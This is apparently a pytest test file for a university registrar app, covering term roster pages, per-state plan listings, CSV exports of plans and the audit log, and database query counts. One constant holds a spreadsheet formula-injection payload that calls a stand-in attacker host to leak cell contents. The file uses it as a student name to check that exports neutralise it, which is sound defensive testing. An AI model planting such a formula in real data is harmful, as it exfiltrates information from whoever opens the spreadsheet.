"""The term's roster shows every plan of the term by state; rosters and the audit log as CSV."""

from __future__ import annotations

import csv
import html
import io

from careercredit.models import PlanState, Role
from tests.registrar.conftest import Desk, text_of
from tests.statements import statements

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _plans(desk: Desk) -> dict[str, int]:
    make = desk.make

    def student(name: str) -> int:
        return make.user(None, Role.student, name=name)

    return {
        "signed": desk.signed_off(desk.other_student("Bea Smith")),
        "progress_a": make.plan(student("Cal Jones"), PlanState.in_progress, term_id=desk.term_id),
        "progress_b": make.plan(student("Ann Able"), PlanState.in_progress, term_id=desk.term_id),
        "waiting": make.plan(student("Dee Lee"), PlanState.awaiting_signoff, term_id=desk.term_id),
        "withdrawn": make.plan(student(FORMULA), PlanState.withdrawn, term_id=desk.term_id),
        "elsewhere": make.plan(student("Eve Moss"), PlanState.in_progress, term_id=make.term()),
    }


def test_roster_counts_every_state_and_lists_every_plan_grouped(desk: Desk) -> None:
    plans = _plans(desk)
    roster = f"/registrar/terms/{desk.term_id}"

    page = html.unescape(desk.registrar.get(roster).get_data(as_text=True))
    counts = text_of(page[page.index('class="list state-counts"') :])
    assert "In progress 2" in counts
    assert "Awaiting sign-off 1" in counts
    assert "Signed off 1" in counts
    assert "Withdrawn 1" in counts
    assert "Draft 0" in counts
    assert "All plans of 2027SP 5" in counts
    # The export roster is still what the page shows first.
    assert "What the next export carries" in page

    every = html.unescape(desk.registrar.get(f"{roster}?state=all").get_data(as_text=True))
    groups = [every.index(f'id="group-{state}"') for state in ("in_progress", "awaiting_signoff")]
    groups += [every.index('id="group-signed_off"'), every.index('id="group-withdrawn"')]
    assert groups == sorted(groups), "groups follow the life of a plan"
    ann, cal = every.index("Ann Able"), every.index("Cal Jones")
    assert groups[0] < ann < cal < groups[1], "by name within a group"
    assert "Eve Moss" not in every

    one = html.unescape(desk.registrar.get(f"{roster}?state=in_progress").get_data(as_text=True))
    assert f'id="plan-{plans["progress_a"]}"' in one
    assert f'id="plan-{plans["waiting"]}"' not in one
    assert "In progress plans of 2027SP" in one


def test_roster_csv_holds_the_state_chosen_with_formulas_neutralised(desk: Desk) -> None:
    plans = _plans(desk)
    roster = f"/registrar/terms/{desk.term_id}"

    every = rows_of(desk.registrar.get(f"{roster}/plans.csv"))
    withdrawn = rows_of(desk.registrar.get(f"{roster}/plans.csv?state=withdrawn"))

    assert len(every) == 5
    assert [row["state"] for row in every][:2] == ["In progress", "In progress"]
    assert [row["plan_id"] for row in withdrawn] == [str(plans["withdrawn"])]
    assert withdrawn[0]["student"] == "'" + FORMULA
    signed = next(row for row in every if row["plan_id"] == str(plans["signed"]))
    assert (signed["grade"], signed["credits"]) == ("B+", "1")
    page = desk.registrar.get(f"{roster}?state=withdrawn").get_data(as_text=True)
    assert f'href="{roster}/plans.csv?state=withdrawn"' in page


def test_audit_log_csv_follows_the_filters(desk: Desk) -> None:
    plan_id = desk.signed_off(desk.other_student(FORMULA))

    rows = rows_of(
        desk.registrar.get(f"/admin/audit.csv?object_type=credit_plan&object_id={plan_id}")
    )

    assert [row["action"] for row in rows] == ["plan.sign_off"]
    assert rows[0]["username"] == "fkim"
    assert rows[0]["object_id"] == str(plan_id)
    assert '"grade":"B+"' in rows[0]["details"]
    page = desk.registrar.get(f"/admin/audit?object_type=credit_plan&object_id={plan_id}")
    assert f"/admin/audit.csv?object_type=credit_plan&amp;object_id={plan_id}" in page.get_data(
        as_text=True
    )


def test_every_plan_of_the_term_costs_the_same_few_queries(desk: Desk) -> None:
    def add(count: int) -> None:
        for n in range(count):
            desk.signed_off(desk.other_student(f"Student {n:02d}"))
            desk.make.plan(
                desk.make.user(None, Role.student), PlanState.in_progress, term_id=desk.term_id
            )

    add(2)
    counted = {}
    for path in ("", "?state=all"):
        desk.registrar.get(f"/registrar/terms/{desk.term_id}{path}")
        with statements(desk.app) as few:
            desk.registrar.get(f"/registrar/terms/{desk.term_id}{path}")
        counted[path] = len(few)
    add(13)
    for path in ("", "?state=all"):
        with statements(desk.app) as many:
            page = desk.registrar.get(f"/registrar/terms/{desk.term_id}{path}")
        assert "Page 1 of 2 (30 in all)" in page.get_data(as_text=True) or path == ""
        assert len(many) == counted[path]
        assert len(many) <= 12, "\n".join(s[:90] for s in many)
